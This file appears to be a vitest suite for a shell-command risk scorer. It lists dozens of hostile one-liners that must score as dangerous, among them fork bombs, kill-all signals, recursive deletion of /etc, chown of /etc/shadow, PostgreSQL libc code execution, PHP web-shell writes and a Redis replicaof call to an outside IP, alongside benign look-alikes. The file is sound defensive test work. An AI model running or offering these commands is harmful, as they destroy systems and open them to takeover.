import { describe, expect, it } from 'vitest';
import { riskOf } from '../../fixtures/shell/risk-of.js';

const dangerous: Readonly<Record<string, readonly string[]>> = {
  'signals to the first process, and to all': [
    `python3 -c 'import os, signal; os.kill(1, signal.SIGKILL)'`,
    `python3 -c 'import os; os.kill(-1, 9)'`,
    `perl -e 'kill 9, -1'`,
    `perl -e 'kill "KILL", 1'`,
    `perl -e 'kill "TERM" => 1'`,
    `ruby -e 'Process.kill(9, -1)'`,
    `ruby -e 'Process.kill("KILL", 1)'`,
    `node -e 'process.kill(1, "SIGKILL")'`,
    `php -r 'posix_kill(-1, 9);'`,
  ],
  'programs that only multiply': [
    `python3 -c 'import os; [os.fork() for _ in iter(int, 1)]'`,
    `python3 -c 'import os; exec("while 1: os.fork()")'`,
    `python3 -c 'import multiprocessing as m; f = lambda: [m.Process(target=f).start() for _ in iter(int, 1)]; f()'`,
    `php -r 'while(1) pcntl_fork();'`,
    `php -r 'for(;;) pcntl_fork();'`,
    `node -e 'const {fork} = require("child_process"); while(1) fork(__filename)'`,
    'f(){ f & f & }; f',
    'x(){ x&x; };x',
    'function bomb { bomb & bomb; }; bomb',
  ],
  'archives that are unpacked over the system': [
    `python3 -c 'import zipfile; zipfile.ZipFile("x.zip").extractall("/etc")'`,
    `python3 -c 'import tarfile; tarfile.open("x.tar").extractall(path="/")'`,
    `python3 -c 'import shutil; shutil.unpack_archive("x.tar", "/etc")'`,
    `python3 -c 'import shutil; shutil.unpack_archive("x.tar", extract_dir="/usr")'`,
  ],
  'all that a pattern or a walk finds': [
    `python3 -c 'import glob, os; list(map(os.remove, glob.glob("/etc/**", recursive=True)))'`,
    `python3 -c 'from pathlib import Path; [p.unlink() for p in Path("/etc").glob("*")]'`,
    `python3 -c 'from pathlib import Path; [p.unlink() for p in Path("/usr").rglob("*")]'`,
    `python3 -c 'from pathlib import Path; [p.unlink() for p in Path("/etc").iterdir()]'`,
    `python3 -c 'import os; [os.unlink(os.path.join(d, f)) for d, _, fs in os.walk("/etc") for f in fs]'`,
    `php -r 'array_map("unlink", glob("/etc/*"));'`,
    `ruby -e 'Dir["/etc/*"].each { |f| File.delete(f) }'`,
    `ruby -e 'Dir.glob("/usr/*") { |f| File.unlink f }'`,
    `perl -e 'unlink </etc/*>'`,
    `perl -e 'unlink for glob("/etc/*")'`,
    `perl -e 'for(</etc/*>){unlink}'`,
    `perl -e 'for (</etc/*>) { print; unlink }'`,
    `perl -e 'foreach (glob "/etc/*") { unlink; }'`,
  ],
  'modules that come later or by another name': [
    `node -e 'import("fs").then(f => f.rmSync("/etc", { recursive: true }))'`,
    `node -e 'import("node:fs").then(({ rmSync }) => rmSync("/etc", { recursive: true }))'`,
    `node -e 'import("fs").then(function (files) { files.rmSync("/etc", { recursive: true }) })'`,
    `node -e 'process.mainModule.constructor._load("child_process").exec("rm -rf /etc")'`,
    `python3 -c 'import posix; posix.system("rm -rf /etc")'`,
    `python3 -c 'import ctypes; ctypes.CDLL(None).system(b"rm -rf /etc")'`,
  ],
  'functions whose names are put together, or only known then': [
    `node -e 'global["ev"+"al"]("require(\\"fs\\").unlinkSync(\\"/etc/passwd\\")")'`,
    `node -e 'globalThis[process.argv[1]]("x")'`,
    `node -e 'const k = process.argv[1]; require("fs")[k]("/etc/passwd")'`,
    `node -e 'require("child_process")[process.env.K]("id")'`,
    `python3 -c 'import os, sys; getattr(os, sys.argv[1])("x")'`,
    `ruby -e 'Kernel.send(ARGV[0], "x")'`,
    `ruby -e 'FileUtils.send(ARGV[0], "/etc")'`,
  ],
  'programs that are started under another name': [
    `perl -e 'exec {"/bin/rm"} "rm", "-rf", "/etc"'`,
    `perl -e 'system { "rm" } "rm", "-rf", "/etc"'`,
  ],
  'files that get another owner': [
    `python3 -c 'import os; os.chown("/etc/shadow", 1000, 1000)'`,
    `perl -e 'chown 1000, 1000, "/etc/shadow"'`,
    `node -e 'require("fs").chownSync("/etc/shadow", 1000, 1000)'`,
  ],
  databases: [
    `psql -c "DO \\$\\$ BEGIN EXECUTE 'DROP DATABASE x'; END \\$\\$"`,
    `psql -c "CREATE FUNCTION s(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C"`,
    'psql -c "CREATE EXTENSION plpython3u"',
    `psql -c "DO \\$\\$ import os \\$\\$ LANGUAGE plpython3u"`,
    `psql -c "ALTER SYSTEM SET archive_command = 'rm -rf /srv'"`,
    `psql -c "ALTER SYSTEM SET shared_preload_libraries = '/tmp/x.so'"`,
    'psql -c "select 1 \\g |sh"',
    'psql -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"',
    `mysql -e "SET GLOBAL general_log_file = '/var/www/x.php'"`,
    `mysql -e "SELECT '<?php' INTO OUTFILE '/var/www/html/x.php'"`,
    `redis-cli eval 'return redis.call("flushall")' 0`,
    'redis-cli replicaof 203.0.113.9 6379',
  ],
  'other languages': [
    `groovy -e 'new File("/etc").deleteDir()'`,
    `R --slave -e 'file.remove("/etc/passwd")'`,
    `erl -noshell -eval 'file:delete("/etc/passwd"), halt().'`,
    `erl -noshell -eval 'file:del_dir_r("/etc"), halt().'`,
    `julia -e 'download("https://example.com/x", "/etc/cron.d/y")'`,
    `bb -e '(babashka.fs/delete-tree "/etc")'`,
    `gnuplot -e '!rm -rf /etc'`,
    `pwsh -c 'Stop-Computer -Force'`,
    `pwsh -c 'Stop-Service sshd'`,
  ],
};

describe('code that hides what it does', () => {
  for (const [what, commands] of Object.entries(dangerous)) {
    describe(what, () => {
      it.each(commands)('%s', (command) => expect(riskOf(command)).toBeGreaterThanOrEqual(0.4));
    });
  }
});

describe('everyday code of the same kind', () => {
  it.each([
    `python3 -c 'import os; os.kill(1234, 0)'`,
    `python3 -c 'import os; print(os.fork)'`,
    `python3 -c 'import tarfile; tarfile.open("x.tgz").extractall("build")'`,
    `python3 -c 'import zipfile; print(zipfile.ZipFile("x.zip").namelist())'`,
    `python3 -c 'import glob; print(len(glob.glob("/etc/*")))'`,
    `python3 -c 'from pathlib import Path; print(list(Path("/etc").iterdir()))'`,
    `python3 -c 'import os; [print(d) for d, _, fs in os.walk("/etc")]'`,
    `ruby -e 'Dir["*.rb"].each { |f| puts f }'`,
    `perl -e 'print for glob("/etc/*")'`,
    `perl -e 'print $h{unlink}, $h{rmdir}'`,
    `perl -e 'for (glob "/etc/*") { print }'`,
    `node -e 'const k = process.argv[1]; console.log({ a: 1 }[k], table[k](1))'`,
    `python3 -c 'print(getattr(point, name)())'`,
    `ruby -e 'puts [1, 2].send(ARGV[0])'`,
    `perl -e 'print while <STDIN>'`,
    `perl -e 'print 5 -1'`,
    `node -e 'import("fs").then(f => console.log(f.readdirSync(".")))'`,
    `node -e 'process.kill(process.pid, 0)'`,
    'walk() { for d in "$1"/*/; do walk "$d" & done; wait; }; walk .',
    'psql -c "SELECT pg_terminate_backend(42)"',
    'psql -c "CREATE EXTENSION pg_trgm"',
    `psql -c "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql"`,
    `redis-cli eval 'return redis.call("get", KEYS[1])' 1 x`,
    'redis-cli replicaof no one',
    `pwsh -c 'Get-Service sshd'`,
  ])('%s', (command) => expect(riskOf(command)).toBeLessThan(0.4));
});
